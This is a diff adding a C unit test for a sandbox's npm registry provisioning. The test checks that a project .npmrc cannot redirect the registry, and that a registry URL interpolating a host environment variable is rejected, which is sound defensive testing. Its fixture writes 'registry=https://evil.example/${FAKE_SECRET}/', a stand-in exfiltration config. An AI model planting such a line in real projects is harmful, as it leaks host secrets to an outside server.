@@ -191,6 +191,47 @@ test_forbidden (void)
   g_assert_cmpstr (free_of_it, !=, with);
 }
 
+/* A project says where its packages come from, and may ask for a variable of the host's with it:
+ * whoever happens to be in it makes the layers of all machines, and is not asked. */
+static void
+test_registry (void)
+{
+  g_autofree char *npm = g_find_program_in_path ("npm"), *here = g_get_current_dir ();
+  g_autofree char *before = NULL, *within = NULL, *users = NULL, *rc = NULL;
+  g_autofree char *project = g_build_filename (g_get_home_dir (), "project", NULL);
+  g_autofree char *project_rc = g_build_filename (project, ".npmrc", NULL);
+  g_autofree char *package = g_build_filename (project, "package.json", NULL);
+  g_autoptr (GError) error = NULL;
+
+  if (npm == NULL)
+    {
+      g_test_skip ("npm is not installed here");
+      return;
+    }
+  before = _sandbox_provision_registry (NULL);
+  g_assert_cmpint (g_mkdir (project, 0700), ==, 0);
+  g_setenv ("FAKE_SECRET", "a-secret", TRUE);
+  g_file_set_contents (package, "{}", -1, &error);
+  g_assert_no_error (error);
+  g_file_set_contents (project_rc, "registry=https://evil.example/${FAKE_SECRET}/\n", -1, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (g_chdir (project), ==, 0);
+  within = _sandbox_provision_registry (NULL);
+  g_assert_cmpstr (within, ==, before);
+  /* the user's own counts, but no variable of the host's goes with it */
+  rc = g_build_filename (g_get_home_dir (), ".npmrc", NULL);
+  g_file_set_contents (rc, "registry=https://own.example/npm/\n", -1, &error);
+  g_assert_no_error (error);
+  users = _sandbox_provision_registry (NULL);
+  g_assert_cmpstr (users, ==, "https://own.example/npm/");
+  g_clear_pointer (&users, g_free);
+  g_file_set_contents (rc, "registry=https://own.example/${FAKE_SECRET}/\n", -1, &error);
+  g_assert_no_error (error);
+  users = _sandbox_provision_registry (NULL);
+  g_assert_null (users);
+  g_assert_cmpint (g_chdir (here), ==, 0);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -203,6 +244,7 @@ main (int argc, char **argv)
   g_test_add_func ("/provision/pieces", test_pieces);
   g_test_add_func ("/provision/errors", test_errors);
   g_test_add_func ("/provision/forbidden", test_forbidden);
+  g_test_add_func ("/provision/registry", test_registry);
   result = g_test_run ();
   driver_test_remove_home (home);
   return result;
